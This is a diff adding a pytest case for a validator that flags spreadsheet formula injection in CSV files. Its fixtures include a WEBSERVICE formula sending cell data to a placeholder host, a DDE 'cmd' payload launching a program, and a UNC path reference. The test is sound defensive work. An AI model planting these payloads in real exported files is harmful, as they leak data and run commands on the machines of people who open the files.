@@ -155,6 +155,27 @@ def test_what_says_so_in_a_text_asks_for_nothing() -> None:
     assert fault(kept(book), "a.xlsx") is None
 
 
+@pytest.mark.parametrize(
+    ("table", "why"),
+    [
+        ('a,"=WEBSERVICE(""https://e.example/""&A1)"', FileFault.FORMULA),
+        ('a;=SERVICEWEB("https://e.example")', FileFault.FORMULA),
+        ('\ufeff=IF(1,IMAGE("https://e.example/a.png"),1)', FileFault.FORMULA),
+        ('x,"=1+\nRTD(""a.server"",,1)"', FileFault.FORMULA),
+        ("x\r\n-1+cmd|' /C calc'!A0", FileFault.FORMULA),
+        (r"@'\\192.0.2.1\a\[b.xlsx]Sheet1'!A1", FileFault.FORMULA),
+        ("a,-5,=SUM(A1:A2)\nImage (front) [1],a|b\n", None),
+        ("How WEBSERVICE(…) is used\tcmd|'x'\n", None),
+        ("-5,Image (front)", None),
+    ],
+)
+def test_a_table_as_text_is_refused_for_what_a_spreadsheet_makes_of_its_cells(
+    table: str, why: FileFault | None
+) -> None:
+    assert fault(table.encode(), "a.csv") is why
+    assert fault(table.encode(), "a.txt") is None
+
+
 def test_sheets_are_read_no_further_than_their_limit(monkeypatch: pytest.MonkeyPatch) -> None:
     content = cell(ASKS)
     monkeypatch.setattr(parts, "LARGEST_TEXT", 1_000)
